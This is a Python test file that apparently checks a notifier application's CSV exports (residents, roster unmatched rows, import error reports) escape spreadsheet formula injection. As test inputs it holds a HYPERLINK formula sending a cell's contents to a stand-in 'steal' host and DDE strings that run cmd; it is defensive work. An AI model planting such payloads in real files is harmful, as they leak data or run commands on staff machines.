"""CSV files staff open in a spreadsheet never carry a cell it would run as a formula (``notifier.domain.spreadsheet``):
the residents export (a resident's own name, typed on the public subscription page), the unmatched rows of a
roster (the cells of the uploaded file) and the import's error report (an uploaded row that was refused)."""

from __future__ import annotations

import csv
import io
from collections.abc import AsyncIterator
from pathlib import Path

import aiohttp
import pytest
from aiohttp.test_utils import TestServer

from notifier.api import create_app
from notifier.config import Settings
from notifier.domain.models import SubscriberIn
from notifier.domain.spreadsheet import csv_cell
from notifier.store import Store
from subscribers.importer import import_file
from subscribers.roster_rows import table_from_rows
from tests.conftest import VILLAGE_A1
from tests.console_sign_in import signed_in_session

FORMULA = '=HYPERLINK("http://198.51.100.9/steal?d="&A2,"点击查看")'
DDE = "+cmd|' /C calc'!A0"


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        (FORMULA, "'" + FORMULA),
        (DDE, "'" + DDE),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("=1", "'=1"),
        ("+8613812345678", "+8613812345678"),  # a phone number runs as nothing but a number
        ("+86 138 1234 5678", "+86 138 1234 5678"),
        ("-50", "-50"),
        ("王秀英", "王秀英"),
        (" =1+1", " =1+1"),  # a leading space: text to the spreadsheet
        ("", ""),
        (None, ""),
        (42, 42),
    ],
)
def test_a_cell_that_would_run_as_a_formula_is_written_as_text(value: object, cell: object) -> None:
    assert csv_cell(value) == cell


async def download_csv(session: aiohttp.ClientSession, path: str) -> list[dict[str, str]]:
    async with session.get(path) as response:
        assert response.status == 200, await response.text()
        assert response.content_type == "text/csv"
        return list(csv.DictReader(io.StringIO((await response.read()).decode("utf-8-sig"))))


@pytest.fixture
async def console(settings: Settings, store: Store) -> AsyncIterator[TestServer]:
    server = TestServer(create_app(settings, store=store), host="127.0.0.1", port=0)
    await server.start_server()
    yield server
    await server.close()


async def test_the_residents_export_writes_a_formula_name_as_text(console: TestServer, store: Store) -> None:
    data = {
        "name": FORMULA,
        "phone": "+8613812345678",
        "area_code": VILLAGE_A1,
        "channels": ["sms"],
        "topics": ["air-quality"],
    }  # one of the department's topics: in its staff's scope
    await store.create_subscriber(SubscriberIn.model_validate(data), "test")
    session = await signed_in_session(store, str(console.make_url("")), department="environment")
    async with session:
        [row] = await download_csv(session, "/console/residents/export.csv")
    assert row["name"] == "'" + FORMULA
    assert row["phone"] == "+8613812345678"  # a number stays as it is


async def test_a_rosters_unmatched_rows_write_formula_cells_as_text(console: TestServer, store: Store) -> None:
    table = table_from_rows([{"姓名": DDE, "手机号": "13700000000", "金额": "-50"}])
    roster_id = await store.create_roster(
        department="civil-affairs", name="低保金", key="phone", table=table, direct=False, actor="test"
    )
    session = await signed_in_session(store, str(console.make_url("")), department="civil-affairs")
    async with session:
        [row] = await download_csv(session, f"/console/rosters/{roster_id}/unmatched.csv")
    assert (row["姓名"], row["手机号"], row["金额"]) == ("'" + DDE, "13700000000", "-50")


async def test_the_import_error_report_writes_a_refused_rows_formula_as_text(store: Store, tmp_path: Path) -> None:
    roster = tmp_path / "roster.csv"
    lines = io.StringIO()
    csv.writer(lines).writerows([("external_id", "name", "phone", "area_code"), (FORMULA, "王伟", "12345", VILLAGE_A1)])
    roster.write_text(lines.getvalue(), encoding="utf-8")  # the phone is refused
    report = tmp_path / "errors.csv"
    result = await import_file(store, roster, actor="test", report_path=report)
    assert result.failed == 1
    rows = list(csv.DictReader(io.StringIO(report.read_text(encoding="utf-8-sig"))))
    assert rows and {row["external_id"] for row in rows} == {"'" + FORMULA}
